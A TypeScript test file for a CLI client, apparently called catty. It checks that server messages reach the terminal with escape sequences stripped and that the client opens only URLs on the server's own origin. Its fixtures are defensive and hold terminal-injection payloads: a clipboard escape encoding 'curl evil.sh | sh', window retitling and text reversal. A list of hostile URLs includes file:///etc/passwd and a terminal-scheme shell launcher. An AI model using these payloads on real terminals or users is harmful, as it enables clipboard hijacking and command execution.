/**
 * What a server says reaches the terminal without escape sequences: HTTP answers and errors (the
 * API client), attach messages (the session link), and catty's notices; and the CLI opens only an
 * http(s) page of the server's own origin. The server here is a hostile stand-in: the point is
 * what a server could send, which a real one does not.
 */
import { afterEach, describe, expect, test } from "bun:test";
import fc from "fast-check";
import { createApiClient } from "../../src/client/api.ts";
import { browsable } from "../../src/client/browser.ts";
import { Display } from "../../src/client/display.ts";
import { SessionLink, type Outcome } from "../../src/client/session-link.ts";
import { printable, printableDeep } from "../../src/client/terminal-text.ts";
import { CattyError } from "../../src/protocol/errors.ts";
import { keptLog } from "../helpers/log.ts";

/** Sets the clipboard, retitles the window, moves the cursor, rings, reverses text: all a server could try. */
const NASTY = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x1b\\\x1b[2J\x1b[H\u009b31m\u202eevil\r\nfake ✔ line\x00\x7f";
const HAS_CONTROL = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const servers: Array<{ stop(force?: boolean): unknown }> = [];
afterEach(() => {
  for (const s of servers.splice(0)) s.stop(true);
});

describe("printable", () => {
  test("no control character survives, whatever the text; ordinary text (accents, CJK, emoji) is kept", () => {
    fc.assert(fc.property(fc.string({ unit: "binary" }), (s) => expect(HAS_CONTROL.test(printable(s))).toBe(false)));
    expect(printable("Session brave-tiger-1234 not found — 世界 🐱 café")).toBe("Session brave-tiger-1234 not found — 世界 🐱 café");
    expect(printable(NASTY)).toBe("]52;c;Y3VybCBldmlsLnNoIHwgc2g=]0;pwned\\[2J[H31mevil  fake ✔ line");
  });

  test("reaches every string of an answer: nested objects, arrays and keys", () => {
    const answer: unknown = { a: [NASTY, 1, null, { [`k${NASTY}`]: NASTY }], n: 2, t: true };
    expect(printableDeep(answer)).toEqual({
      a: [printable(NASTY), 1, null, { [`k${printable(NASTY)}`]: printable(NASTY) }],
      n: 2,
      t: true,
    });
  });
});

describe("what a server says", () => {
  test("the API client's errors and answers carry no control character (message, hint, status text, labels, regions)", async () => {
    const server = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch(req) {
        const path = new URL(req.url).pathname;
        if (path === "/v1/sessions/x") return Response.json({ type: "error", code: "not_found", message: `gone${NASTY}`, hint: `run ${NASTY}` }, { status: 404 });
        if (path === "/v1/regions") return Response.json([{ id: "eu", name: `Europe${NASTY}`, default: true }]);
        return new Response("not json", { status: 502, statusText: `Bad\x1b]0;t\x07Gateway` });
      },
    });
    servers.push(server);
    const client = createApiClient(`http://127.0.0.1:${server.port}`, "token");
    const err = (await client.get("x").catch((e: unknown) => e)) as CattyError;
    expect(err).toBeInstanceOf(CattyError);
    expect(err.message).toStartWith("gone");
    expect(HAS_CONTROL.test(err.message)).toBe(false);
    expect(HAS_CONTROL.test(err.hint ?? "")).toBe(false);
    const regions = await client.regions();
    expect(regions[0]?.name).toStartWith("Europe");
    expect(HAS_CONTROL.test(regions[0]?.name ?? "")).toBe(false);
    const other = (await client.list().catch((e: unknown) => e)) as CattyError;
    expect(other.message).toContain("502");
    expect(HAS_CONTROL.test(other.message)).toBe(false);
  });

  test("the attach link's status, error and exit reason carry no control character", async () => {
    const said: string[] = [];
    const send = (ws: { send(s: string): unknown }, kind: string): void => {
      if (kind === "error") ws.send(JSON.stringify({ type: "error", code: "forbidden", message: `no${NASTY}`, hint: `hint${NASTY}` }));
      else ws.send(JSON.stringify({ type: "exit", code: 3, status: "stopped", reason: `died${NASTY}` }));
    };
    const server = Bun.serve<{ kind: string }>({
      hostname: "127.0.0.1",
      port: 0,
      fetch(req, srv) {
        return srv.upgrade(req, { data: { kind: new URL(req.url).searchParams.get("kind") ?? "" } }) ? undefined : new Response("no", { status: 400 });
      },
      websocket: {
        message(ws) {
          ws.send(JSON.stringify({ type: "status", message: `waiting${NASTY}` }));
          send(ws, ws.data.kind);
        },
      },
    });
    servers.push(server);
    const outcome = (kind: string): Promise<Outcome> => {
      const link = new SessionLink(
        { url: `ws://127.0.0.1:${server.port}/attach?kind=${kind}`, token: "t", mode: "interactive", offset: null, size: () => ({ cols: 80, rows: 24 }), autoReconnect: false, log: keptLog() },
        { output: () => {}, screen: () => {}, status: (m) => said.push(m) },
      );
      return link.start();
    };
    const error = await outcome("error");
    if (error.kind !== "error") throw new Error(`expected an error, got ${error.kind}`);
    expect(error.error.message).toStartWith("no");
    expect(HAS_CONTROL.test(error.error.message + (error.error.hint ?? ""))).toBe(false);
    const exit = await outcome("exit");
    if (exit.kind !== "exit") throw new Error(`expected an exit, got ${exit.kind}`);
    expect(exit.reason).toStartWith("died");
    expect(HAS_CONTROL.test(exit.reason ?? "")).toBe(false);
    expect(said.length).toBeGreaterThan(0);
    for (const m of said) expect(HAS_CONTROL.test(m)).toBe(false);
  });

  test("a notice (a synced file's name, a reason) is drawn without the control characters it holds", () => {
    let written = "";
    const display = new Display({ out: { write: (d) => void (written += typeof d === "string" ? d : new TextDecoder().decode(d)) }, size: () => ({ cols: 200, rows: 10 }), repaint: () => {} });
    display.notice(`your local edit of a${NASTY}.md was kept`);
    display.dispose();
    expect(written).toContain("your local edit of a");
    expect(written).not.toContain("\x1b]52");
    expect(written).not.toContain("\x1b]0;");
    expect(written).not.toContain("\u202e");
  });
});

describe("opening a page a server names", () => {
  test("only http(s) on the server's own origin", () => {
    const api = "https://catty.example.com";
    expect(browsable("https://catty.example.com/device?code=ABCD", api)).toBe(true);
    expect(browsable("http://127.0.0.1:8080/device", "http://127.0.0.1:8080")).toBe(true);
    for (const url of [
      "smb://evil.example/share",
      "file:///etc/passwd",
      "javascript:alert(1)",
      "x-terminal-emulator://run?cmd=sh",
      "https://evil.example.com/device",
      "https://catty.example.com.evil.example/device",
      "http://catty.example.com/device",
      "https://catty.example.com:8443/device",
      "not a url",
    ]) {
      expect(browsable(url, api)).toBe(false);
    }
  });
});
